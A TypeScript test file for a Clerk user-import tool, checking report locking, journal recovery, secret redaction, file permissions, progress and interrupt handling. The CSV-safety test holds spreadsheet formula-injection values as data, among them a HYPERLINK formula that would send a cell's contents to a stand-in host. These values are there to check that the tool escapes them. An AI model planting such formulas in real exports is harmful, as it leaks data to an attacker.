import { spawn } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import type { ClerkUser } from '../../src/model/clerk-types.js';
import { exitCodeFor } from '../../src/cli/exit-codes.js';
import { executeImport } from '../../src/pipeline/import.js';
import { generateUsers } from '../../src/emulator/generate.js';
import { EtlError } from '../../src/errors.js';
import type { ImportSummary } from '../../src/pipeline/import-run.js';
import { ImportJournal } from '../../src/state/import-journal.js';
import { createLogger, silentLogger } from '../../src/log.js';
import { runCli, startCli } from '../helpers/cli.js';
import { emulatorPerTest } from '../helpers/emulators.js';
import { importSettingsFor } from '../helpers/import-settings.js';

const BCRYPT = '$2b$10$U4C0ZY8OG8y41F9LusfKyu3HRMBL0rCZcKBVsXhgr.n8Ou6FPhzO2';
const dir = mkdtempSync(path.join(os.tmpdir(), 'clerk-etl-import-reports-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const emulator = emulatorPerTest();

const settings = importSettingsFor(4);

/** n generated users that have an identifier (Clerk cannot create one without), as an NDJSON file. */
function usersFile(name: string, n: number, seed: number, edit: (u: ClerkUser, i: number) => ClerkUser = (u) => u): { file: string; users: ClerkUser[] } {
  const users = generateUsers(n * 2, { seed })
    .filter((u) => [u.email_addresses, u.phone_numbers, u.web3_wallets].some((a) => (a as unknown[]).length > 0) || typeof u.username === 'string')
    .slice(0, n)
    .map(edit);
  const file = path.join(dir, name);
  writeFileSync(file, users.map((u) => JSON.stringify(u)).join('\n') + '\n');
  return { file, users };
}

const idMapRows = (report: string, file = 'id-map.csv') =>
  Papa.parse<Record<string, string>>(readFileSync(path.join(report, file), 'utf8'), { header: true, skipEmptyLines: true }).data;
const walk = (d: string): string[] => (existsSync(d) ? readdirSync(d).flatMap((n) => (statSync(path.join(d, n)).isDirectory() ? walk(path.join(d, n)) : [path.join(d, n)])) : []);
const until = (cond: () => boolean): Promise<void> =>
  new Promise((resolve) => {
    const t = setInterval(() => {
      if (cond()) {
        clearInterval(t);
        resolve();
      }
    }, 2);
  });

describe('the report folder is locked (issue 12, item 9)', () => {
  it('a second import into the folder of a running one stops with LOCKED (exit 5) naming the holder, sends nothing, and labels nothing', async () => {
    const { file } = usersFile('lock.ndjson', 60, 61);
    const em = await emulator({ users: 0, latencyMs: 15 });
    const report = path.join(dir, 'lock-report');
    const first = executeImport(settings(em, file, report, { concurrency: 2 }), silentLogger, new AbortController().signal);
    await until(() => em.stats.creates >= 5);
    const err = await executeImport(settings(em, file, report), silentLogger, new AbortController().signal).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(EtlError);
    expect((err as EtlError).code).toBe('LOCKED');
    expect(exitCodeFor(err)).toBe(5);
    expect((err as Error).message).toContain(`pid ${process.pid}`);
    expect((err as Error).message).toContain(report);
    const summary = await first;
    // Without the lock the second run also creates, and the first then labels those users `exists`.
    expect(summary.counts).toMatchObject({ created: 60, exists: 0, failed: 0 });
    expect(em.stats.creates).toBe(60);
    expect(idMapRows(report).map((r) => r.outcome)).toEqual(new Array(60).fill('created'));
    // released at the end: the next run goes on (nothing left to do)
    expect(existsSync(path.join(report, 'import.lock'))).toBe(false);
    const again = await executeImport(settings(em, file, report), silentLogger, new AbortController().signal);
    expect(again.counts).toMatchObject({ created: 0, already_done: 60 });
  }, 30_000);

  it('the CLI exits 5 on a lock held by a live process; a lock of a dead process of this host is taken over with a warning', async () => {
    const { file } = usersFile('lock-cli.ndjson', 5, 62);
    const em = await emulator({ users: 0 });
    const report = path.join(dir, 'lock-cli-report');
    const run = () => runCli(['import', '--from', file, '--report', report, '--rate-limit', '100000/1s', '--log-format', 'json'], { env: { CLERK_SECRET_KEY: em.secretKey, CLERK_API_URL: em.url } });
    const lock = (pid: number) => {
      mkdirSync(report, { recursive: true });
      writeFileSync(path.join(report, 'import.lock'), JSON.stringify({ host: os.hostname(), pid, run_id: '20261204T000000000Z-abcdef', started_at: new Date().toISOString() }) + '\n');
    };
    lock(process.pid); // this test process: alive
    const held = await run();
    expect(held.code).toBe(5);
    expect(held.stderr).toContain(`pid ${process.pid}`);
    expect(held.stderr).toContain('20261204T000000000Z-abcdef');
    expect(em.stats.requests).toBe(0);
    const dead = spawn(process.execPath, ['-e', '']);
    await new Promise((r) => dead.on('close', r));
    lock(dead.pid!);
    const taken = await run();
    expect(taken.code, taken.stderr).toBe(0);
    expect(taken.stderr).toContain('taking over the lock of a run on this host that no longer runs');
    expect(em.store.size).toBe(5);
    expect(existsSync(path.join(report, 'import.lock'))).toBe(false);
    // --report is a local folder: a URL is refused (exit 2), not made into a folder `s3:`
    const { code: url } = await runCli(['import', '--from', file, '--report', 's3://bucket/reports', '--dry-run'], { cwd: dir });
    expect(url).toBe(2);
  }, 30_000);
});

describe('a torn journal line (issue 12, item 10)', () => {
  it('a torn last line is removed with a warning on open, never appended to: the resume after the resume still reads the journal', async () => {
    const { file, users } = usersFile('torn.ndjson', 20, 63);
    const em = await emulator({ users: 0 });
    const report = path.join(dir, 'torn-report');
    await executeImport(settings(em, file, report), silentLogger, new AbortController().signal);
    // Power loss while the last entry (a `created`) was written: half of it reached the disk.
    const journal = path.join(report, 'journal.ndjson');
    const text = readFileSync(journal, 'utf8');
    const lastStart = text.lastIndexOf('\n', text.length - 2) + 1;
    truncateSync(journal, Buffer.byteLength(text.slice(0, lastStart + 25)));
    const logs: string[] = [];
    const log = createLogger({ format: 'json', write: (l) => logs.push(l) });
    const second = await executeImport(settings(em, file, report), log, new AbortController().signal);
    expect(logs.some((l) => l.includes('torn line'))).toBe(true);
    expect(second.counts).toMatchObject({ already_done: 19, created: 1, recovered: 1, failed: 0 });
    const third = await executeImport(settings(em, file, report), silentLogger, new AbortController().signal);
    expect(third.counts).toMatchObject({ already_done: 20, created: 0, failed: 0 });
    for (const line of readFileSync(journal, 'utf8').trimEnd().split('\n')) expect(() => JSON.parse(line)).not.toThrow();
    expect(em.store.size).toBe(20);
    expect(new Set(idMapRows(report).map((r) => r.source_id))).toEqual(new Set(users.map((u) => u.id)));
  }, 30_000);

  it('NUL bytes after power loss are removed; a journal that a former version glued onto a torn line is read, keeping the whole entry', () => {
    const report = path.join(dir, 'journal-unit');
    mkdirSync(report, { recursive: true });
    const journal = path.join(report, 'journal.ndjson');
    const entry = (id: string, state: string) => JSON.stringify({ source_id: id, state, at: '2026-12-04T00:00:00.000Z' });
    writeFileSync(journal, `${entry('a', 'created')}\n${entry('b', 'pending').slice(0, 20)}${entry('b', 'created')}\n${entry('c', 'created')}\n`);
    appendFileSync(journal, Buffer.alloc(64));
    const warnings: string[] = [];
    const j = new ImportJournal(report, createLogger({ format: 'json', write: (l) => warnings.push(l) }));
    expect([...j.entries()].map((e) => [e.source_id, e.state])).toEqual([
      ['a', 'created'],
      ['b', 'created'],
      ['c', 'created'],
    ]);
    j.record({ source_id: 'd', state: 'created' });
    j.close();
    expect(warnings).toHaveLength(2);
    const lines = readFileSync(journal, 'utf8').split('\n');
    expect(JSON.parse(lines[3]!)).toMatchObject({ source_id: 'd' });
    expect(lines[4]).toBe('');
  });
});

describe('secrets never reach a report (issue 12, item 16)', () => {
  it('failures.ndjson keeps the line and the field but not the password digest, TOTP secret, backup codes or private metadata; no report and no journal holds them', async () => {
    const TOTP = 'JBSWY3DPEHPK3PXPSECRETXX';
    const csv = path.join(dir, 'secrets.csv');
    writeFileSync(
      csv,
      [
        'id,first_name,last_name,username,primary_email_address,primary_phone_number,verified_email_addresses,unverified_email_addresses,verified_phone_numbers,unverified_phone_numbers,totp_secret,password_digest,password_hasher',
        `user_ok,Ok,Ok,okay,ok@test.com,,ok@test.com,,,,${TOTP},${BCRYPT},bcrypt`,
        `user_bademail,Bad,Email,bade,not-an-email,,not-an-email,,,,${TOTP},${BCRYPT},bcrypt`,
        `user_badtotp,Bad,Totp,badt,badt@test.com,,badt@test.com,,,,${TOTP}!!,${BCRYPT},bcrypt`,
        `user_quote,"Un"balanced,x,q,q@test.com,,,,,,${TOTP},${BCRYPT},bcrypt`,
      ].join('\n') + '\n',
    );
    const ndjson = path.join(dir, 'secrets.ndjson');
    const noIdent = { ...generateUsers(1, { seed: 64 })[0]!, id: 'user_noident', email_addresses: [], phone_numbers: [], web3_wallets: [], username: null };
    writeFileSync(
      ndjson,
      [
        JSON.stringify({ ...noIdent, password_digest: BCRYPT, totp_secret: TOTP, backup_codes: ['backup-code-1', 'backup-code-2'], private_metadata: { api_token: 'tok_PRIVATE_12345' } }),
        `{"id":"user_broken","password_digest":"${BCRYPT}","totp_secret":"${TOTP}","first_name":`,
      ].join('\n') + '\n',
    );
    const em = await emulator({ users: 0 });
    const report = path.join(dir, 'secrets-report');
    const a = await executeImport(settings(em, csv, report), silentLogger, new AbortController().signal);
    expect(a.counts).toMatchObject({ created: 1, failed: 3 });
    const failures = () => readFileSync(path.join(report, 'failures.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    const f1 = failures();
    expect(f1.map((f) => [f.source_id, f.where, f.field])).toEqual([
      ['user_bademail', 'row 2', 'email_address[0]'],
      ['user_badtotp', 'row 3', 'totp_secret'],
      [null, 'row 4', '(record)'],
    ]);
    expect(f1[0]!.record).toMatchObject({ id: 'user_bademail', totp_secret: '[REDACTED]', password_digest: '[REDACTED]', password_hasher: 'bcrypt' });
    const secrets = [TOTP, BCRYPT, 'backup-code-1', 'tok_PRIVATE_12345'];
    const scan = () => {
      for (const f of walk(report)) for (const s of secrets) expect(readFileSync(f, 'utf8').includes(s), `${s} in ${f}`).toBe(false);
    };
    scan();
    // The user that was created does have its secrets in Clerk: redaction is for the reports only.
    expect(em.store.secretsOf(idMapRows(report).find((r) => r.source_id === 'user_ok')!.clerk_user_id!)).toMatchObject({ totp_secret: TOTP, password_digest: BCRYPT });
    const report2 = path.join(dir, 'secrets-report-2');
    const b = await executeImport(settings(em, ndjson, report2), silentLogger, new AbortController().signal);
    expect(b.counts.failed).toBe(2);
    const f2 = readFileSync(path.join(report2, 'failures.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(f2.map((f) => [f.where, f.field])).toEqual([
      ['line 1', 'email_address'],
      ['line 2', '(record)'],
    ]);
    expect(f2[0]!.record).toMatchObject({ password_digest: '[REDACTED]', totp_secret: '[REDACTED]', backup_codes: '[REDACTED]', private_metadata: '[REDACTED]', password_enabled: (noIdent as ClerkUser).password_enabled });
    // a line that is not JSON is named, not copied: a secret could sit anywhere in it
    expect(f2[1]!.record).toBeNull();
    expect(f1[2]!.record).toBeNull();
    for (const f of walk(report2)) for (const s of secrets) expect(readFileSync(f, 'utf8').includes(s), `${s} in ${f}`).toBe(false);
    // the dry run's reports too
    const report3 = path.join(dir, 'secrets-report-3');
    await executeImport(settings(em, csv, report3, { dryRun: true, secretKey: undefined }), silentLogger, new AbortController().signal);
    expect(readFileSync(path.join(report3, 'dry-run-failures.ndjson'), 'utf8')).toContain('[REDACTED]');
    for (const f of walk(report3)) for (const s of secrets) expect(readFileSync(f, 'utf8').includes(s), `${s} in ${f}`).toBe(false);
  }, 30_000);
});

describe('reports are private (issue 12, item 17)', () => {
  it('the report folder is created 0700, the journal and every report 0600, whatever the umask', async () => {
    const { file } = usersFile('modes.ndjson', 5, 65);
    const bad = path.join(dir, 'modes-bad.ndjson');
    writeFileSync(bad, readFileSync(file, 'utf8') + '{"id":"user_x"}\n');
    const em = await emulator({ users: 0 });
    const report = path.join(dir, 'modes', 'nested', 'report');
    await executeImport(settings(em, bad, report), silentLogger, new AbortController().signal);
    await executeImport(settings(em, bad, report, { dryRun: true, secretKey: undefined }), silentLogger, new AbortController().signal);
    const mode = (p: string) => statSync(p).mode & 0o777;
    expect(mode(report).toString(8)).toBe('700');
    const files = walk(report).map((f) => path.basename(f)).sort();
    expect(files).toEqual(['dry-run-failures.ndjson', 'dry-run-id-map.csv', 'dry-run-summary.json', 'failures.ndjson', 'id-map.csv', 'journal.ndjson', 'summary.json']);
    for (const f of walk(report)) expect(mode(f).toString(8), f).toBe('600');
  }, 30_000);
});

describe('id-map.csv follows the CSV safety rule (issue 12, item 18)', () => {
  it('a source id a spreadsheet would run as a formula is written with a leading quote, in the id map and the dry run id map', async () => {
    const hostile = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1,2)'];
    const { file } = usersFile('formula.ndjson', 4, 66, (u, i) => ({ ...u, id: hostile[i]!, external_id: `ext_${i}` }));
    const em = await emulator({ users: 0 });
    const report = path.join(dir, 'formula-report');
    await executeImport(settings(em, file, report), silentLogger, new AbortController().signal);
    await executeImport(settings(em, file, report, { dryRun: true, secretKey: undefined }), silentLogger, new AbortController().signal);
    for (const name of ['id-map.csv', 'dry-run-id-map.csv']) {
      const rows = idMapRows(report, name);
      expect(rows.map((r) => r.source_id).sort(), name).toEqual(hostile.map((h) => `'${h}`).sort());
      const text = readFileSync(path.join(report, name), 'utf8');
      for (const line of text.split('\r\n')) expect(line, name).not.toMatch(/^["]?[=+\-@]|,["]?[=+\-@]/);
    }
    expect(idMapRows(report).every((r) => r.outcome === 'created' && r.clerk_user_id!.startsWith('user_'))).toBe(true);
  }, 30_000);
});

describe('import progress (issue 12, item 21)', () => {
  it('counts the records first and reports done / total, rate and ETA while the import runs, not one line at the end', async () => {
    const { file } = usersFile('progress.ndjson', 60, 67);
    const em = await emulator({ users: 0, latencyMs: 100 });
    const lines: Array<Record<string, unknown>> = [];
    const log = createLogger({ format: 'json', write: (l) => lines.push(JSON.parse(l) as Record<string, unknown>) });
    await executeImport(settings(em, file, path.join(dir, 'progress-report'), { concurrency: 1, progress: true }), log, new AbortController().signal);
    const progress = lines.filter((l) => l.msg === 'progress');
    const midway = progress.filter((p) => (p.read as number) > 0 && (p.read as number) < 60);
    expect(midway.length, JSON.stringify(progress)).toBeGreaterThan(0);
    expect(midway.at(-1)).toMatchObject({ expected: 60 });
    expect(midway.at(-1)!.users_per_s).toBeGreaterThan(0);
    expect(midway.at(-1)!.eta_s).toBeGreaterThan(0);
  }, 30_000);
});

describe('Ctrl-C during an import (issue 12, item 23)', () => {
  it('in process: the id map and summary are written, the error says what was created and is ABORTED (exit 130)', async () => {
    const { file } = usersFile('interrupt.ndjson', 80, 69);
    const em = await emulator({ users: 0, latencyMs: 20 });
    const report = path.join(dir, 'interrupt-report');
    const ctrl = new AbortController();
    const run = executeImport(settings(em, file, report, { concurrency: 2 }), silentLogger, ctrl.signal).catch((e: unknown) => e);
    await until(() => em.stats.creates >= 10);
    ctrl.abort(new EtlError('ABORTED', 'Interrupted by SIGINT; the import stopped.'));
    const err = await run;
    expect(err).toBeInstanceOf(EtlError);
    expect(exitCodeFor(err)).toBe(130);
    const s = (err as { summary: ImportSummary }).summary;
    expect((err as Error).message).toContain(`${s.counts.created} users created`);
    expect((err as Error).message).not.toMatch(/nothing was published/);
    const summary = JSON.parse(readFileSync(path.join(report, 'summary.json'), 'utf8'));
    expect(summary.counts.created).toBe(s.counts.created);
    expect(summary.stopped).toContain('Interrupted by SIGINT');
    const rows = idMapRows(report);
    const created = rows.filter((r) => r.outcome === 'created');
    expect(created).toHaveLength(s.counts.created);
    // every user Clerk has is in the id map: created, or `unknown` (in flight when stopped)
    expect(created.length + rows.filter((r) => r.outcome === 'unknown').length).toBeGreaterThanOrEqual(em.store.size);
    for (const r of created) expect(em.store.all().some((u) => u.id === r.clerk_user_id)).toBe(true);
  }, 30_000);

  it('the CLI on SIGINT: prints what was created, writes the reports, exit 130, no "nothing was published"', async () => {
    const { file } = usersFile('sigint.ndjson', 80, 70);
    const em = await emulator({ users: 0, latencyMs: 20 });
    const report = path.join(dir, 'sigint-report');
    const child = startCli(['import', '--from', file, '--report', report, '--concurrency', '2', '--rate-limit', '100000/1s', '--log-format', 'json'], { env: { CLERK_SECRET_KEY: em.secretKey, CLERK_API_URL: em.url } });
    await until(() => em.stats.creates >= 10);
    child.kill('SIGINT');
    expect(await child.code).toBe(130);
    const stdout = child.stdout();
    const stderr = child.stderr();
    expect(stderr).not.toMatch(/nothing was published|partial output is being removed/);
    const summary = JSON.parse(readFileSync(path.join(report, 'summary.json'), 'utf8'));
    expect(summary.counts.created).toBeGreaterThanOrEqual(10);
    expect(stdout).toContain(`${summary.counts.created} created`);
    expect(stdout).toMatch(/stopped after/);
    expect(stderr).toContain(`${summary.counts.created} users created`);
    expect(idMapRows(report).filter((r) => r.outcome === 'created')).toHaveLength(summary.counts.created);
  }, 30_000);
});
